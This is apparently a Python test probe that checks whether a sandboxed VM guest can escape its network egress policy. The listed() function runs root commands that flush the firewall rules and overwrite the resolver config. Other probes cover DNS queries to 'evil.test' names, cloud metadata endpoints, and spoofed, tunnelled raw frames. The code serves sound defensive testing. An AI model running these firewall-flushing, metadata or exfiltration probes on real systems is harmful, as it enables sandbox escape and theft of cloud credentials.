"""The guest's half of the egress cases: asks, connects and sends as root would, and prints `LABEL<tab>OUTCOME` for each try.

Usage: probe.py none|list|public. What came of a try in the guest is a hint; the fake internet's log is the judge.
"""
import errno
import socket
import ssl
import struct
import subprocess
import sys

V4, V6 = socket.AF_INET, socket.AF_INET6
GATEWAY, GUEST = "100.96.0.1", "100.96.0.2"
PATIENCE = 30  # of tries that must be answered or refused; an emulated machine is slow
SILENCE = 3  # of tries that may be dropped


def say(label, outcome):
    print(f"{label}\t{outcome}", flush=True)


def outcome(error):
    return "timeout" if isinstance(error, TimeoutError) else errno.errorcode.get(error.errno, type(error).__name__)


def opened(address, kind):
    s = socket.socket(V6 if ":" in address else V4, kind)
    s.settimeout(PATIENCE)
    return s


def tcp(label, address, port, payload=None, source=None, patience=PATIENCE):
    with opened(address, socket.SOCK_STREAM) as s:
        s.settimeout(patience)
        try:
            if source:
                s.bind((source, 0))
            s.connect((address, port))
            s.sendall(payload or f"GET /{label} HTTP/1.0\r\n\r\n".encode())
            say(label, "answered" if s.recv(100) else "closed")
        except OSError as error:
            say(label, outcome(error))


def udp(label, address, port, patience=PATIENCE):
    with opened(address, socket.SOCK_DGRAM) as s:
        s.settimeout(patience)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            s.connect((address, port))
            s.send(label.encode())
            say(label, "answered" if s.recv(100) else "empty")
        except OSError as error:
            say(label, outcome(error))


def question(name, kind=1, count=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 0x1234, 0x0100, count, 0, 0, 0) + (labels + b"\0" + struct.pack(">HH", kind, 1)) * count


def answer(reply):
    """Response code and addresses: every answer of the fake internet ends in one A record or none."""
    code = {0: "NOERROR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}.get(reply[3] & 15, str(reply[3] & 15))
    return f"{code} {socket.inet_ntoa(reply[-4:])}" if struct.unpack(">H", reply[6:8])[0] else code


def ask(label, name, server=GATEWAY):
    with opened(server, socket.SOCK_DGRAM) as s:
        try:
            s.connect((server, 53))
            s.send(question(name))
            say(label, answer(s.recv(4096)))
        except OSError as error:
            say(label, outcome(error))


def ask_over_tcp(label, name, server):
    with opened(server, socket.SOCK_STREAM) as s:
        try:
            s.connect((server, 53))
            message = question(name)
            s.sendall(struct.pack(">H", len(message)) + message)
            file = s.makefile("rb")
            say(label, answer(file.read(*struct.unpack(">H", file.read(2)))))
        except (OSError, struct.error) as error:
            say(label, outcome(error) if isinstance(error, OSError) else "closed")


def hello(name):
    """A ClientHello with `name` as its SNI, without one for None."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def with_ech(hello):
    """The same with an encrypted hello in it (RFC 9849, 5), which nobody on the way can tell from a made-up one."""
    inner = struct.pack(">BHHBH", 0, 1, 1, 7, 32) + bytes(32) + struct.pack(">H", 144) + bytes(144)
    extension = struct.pack(">HH", 0xFE0D, len(inner)) + inner
    body = bytearray(hello[9:])
    at = 2 + 32
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at : at + 2], "big")
    at += 1 + body[at]
    body[at : at + 2] = (int.from_bytes(body[at : at + 2], "big") + len(extension)).to_bytes(2, "big")
    body += extension
    return hello[:3] + (len(body) + 4).to_bytes(2, "big") + b"\x01" + len(body).to_bytes(3, "big") + bytes(body)


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(protocol, source, destination, payload):
    head = lambda check: struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, 0, 64, protocol, check,
        socket.inet_aton(source), socket.inet_aton(destination),
    )
    return head(checksum(head(0))) + payload


def datagram(label, port):
    return struct.pack(">HHHH", 4242, port, 8 + len(label), 0) + label.encode()


def frames():
    """Frames no honest stack would send; a plain datagram made the same way shows that they do leave the guest."""
    with open("/sys/class/net/eth0/address") as file:
        mine = bytes.fromhex(file.read().strip().replace(":", ""))
    gateway = bytes.fromhex("02766d6d0001")
    honest, target = gateway + mine + b"\x08\0", "93.184.216.34"
    spoofed = gateway + bytes.fromhex("02766d6d0099") + b"\x08\0"
    tagged = gateway + mine + b"\x81\0\0\x05\x08\0"
    inner = ipv4(17, GUEST, target, datagram("42-tunnel", 7))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    for label, frame in {
        "42-plain": honest + ipv4(17, GUEST, target, datagram("42-plain", 7)),
        "42-address": honest + ipv4(17, "10.9.9.9", target, datagram("42-address", 7)),
        "42-mac": spoofed + ipv4(17, GUEST, target, datagram("42-mac", 7)),
        "42-vlan": tagged + ipv4(17, GUEST, target, datagram("42-vlan", 7)),
        "42-ipip": honest + ipv4(4, GUEST, target, inner),
        "42-gre": honest + ipv4(47, GUEST, target, b"\0\0\x08\0" + inner),
        "42-6in4": honest + ipv4(41, GUEST, target, bytes([0x60]) + bytes(39)),
        "42-esp": honest + ipv4(50, GUEST, target, bytes(32)),
        "42-sctp": honest + ipv4(132, GUEST, target, bytes(32)),
        "36-martian": honest + ipv4(17, GUEST, "127.0.0.1", datagram("36-martian", 7)),
        "36-martian-too": honest + ipv4(17, GUEST, "127.8.8.8", datagram("36-martian-too", 7)),
    }.items():
        s.send(frame)
        say(label, "sent")


def closed():
    tcp("1", "93.184.216.34", 80)
    tcp("1-v6", "2606:2800:220:1::34", 80)
    udp("1-udp", "93.184.216.34", 7)
    ask("2", "secret.evil.test")
    ask_over_tcp("2-tcp", "secret-over-tcp.evil.test", "8.8.8.8")


def listed():
    tcp("5", "93.184.216.34", 443, hello("api.example.com"))
    ask("3", "data.evil.test")
    ask("17-near", "evilpkg.example")
    ask("17-inside", "pkg.example.evil.test")
    ask("17-apex", "pkg.example")
    ask("4", "a" * 60 + ".pkg.example")
    for label, junk in {
        "24-junk": b"no question at all",
        "24-two": question("api.example.com", count=2),
        "24-loop": struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\0\x01\0\x01",
    }.items():
        with opened(GATEWAY, socket.SOCK_DGRAM) as s:
            s.sendto(junk, (GATEWAY, 53))
            say(label, "sent")
    ask("6-resolve", "api.example.com")
    tcp("6", "93.184.216.34", 443, hello("api.example.com"))
    tcp("6-other-port", "93.184.216.34", 80)
    tcp("7", "93.184.216.34", 443, hello("sni.evil.test"), patience=SILENCE)
    tcp("8", "93.184.216.34", 443, hello(None), patience=SILENCE)
    tcp("13", "93.184.216.34", 443, with_ech(hello("api.example.com")), patience=SILENCE)
    udp("18", "93.184.216.34", 443)
    udp("19", "93.184.216.34", 8443)
    tcp("21", "1.1.1.1", 443, hello("cloudflare-dns.com"))
    tcp("21-dot", "1.1.1.1", 853)
    ask("23-udp", "api.example.com", "8.8.8.8")
    ask_over_tcp("23-tcp", "api.example.com", "8.8.8.8")
    ask("23-not-allowed", "direct.evil.test", "8.8.8.8")
    for name, address in {"private.test": "10.0.0.5", "meta.test": "169.254.169.254", "loop.test": "127.0.0.2"}.items():
        ask(f"25-{name}", name)
        tcp(f"25-{address}", address, 80, patience=SILENCE)
    # Root takes the guest's own rules, addresses and resolver away; what decides is elsewhere.
    for command in ("nft flush ruleset; iptables -F", "ip addr add 10.9.9.9/24 dev eth0", "ip link set lo down"):
        subprocess.run(command, shell=True, check=False, stderr=subprocess.DEVNULL)
    with open("/etc/resolv.conf", "w", encoding="ascii") as file:
        file.write("nameserver 9.9.9.9\n")
    tcp("57-address", "93.184.216.34", 80, source="10.9.9.9", patience=SILENCE)
    tcp("57", "151.101.1.69", 443, hello("api.example.com"))
    try:
        say("57-resolver", socket.gethostbyname("own-resolver.evil.test"))
    except OSError as error:
        say("57-resolver", type(error).__name__)


def public():
    tcp("open", "93.184.216.34", 80)
    for address in (
        "169.254.169.254", "fd00:ec2::254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192",
    ):
        tcp(f"32-{address}", address, 80)
    ask("32-name", "metadata.google.internal")
    for address in ("::ffff:169.254.169.254", "::ffff:10.0.0.5", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1"):
        tcp(f"33-{address}", address, 80, patience=SILENCE)
    for address in ("255.255.255.255", "224.0.0.251", "ff02::fb%eth0", "240.0.0.1", "100.96.0.3"):
        udp(f"37-{address}", address, 7, patience=SILENCE)
    for address in (
        "10.0.0.5", "172.16.3.4", "192.168.1.1", "100.64.7.7", "198.18.0.1", "192.0.2.9", "fc00::1", "fec0::1",
    ):
        tcp(f"38-{address}", address, 80)
    tcp("38-fe80::1", "fe80::1%eth0", 80, patience=SILENCE)
    for port in (22, 5432, 8081):
        tcp(f"40-{port}", GATEWAY, port)
    tcp("41", GATEWAY, 8080)
    tcp("41-own-address", "192.0.2.2", 8080)
    frames()


{"none": closed, "list": listed, "public": public}[sys.argv[1]]()
say("end", "reached")
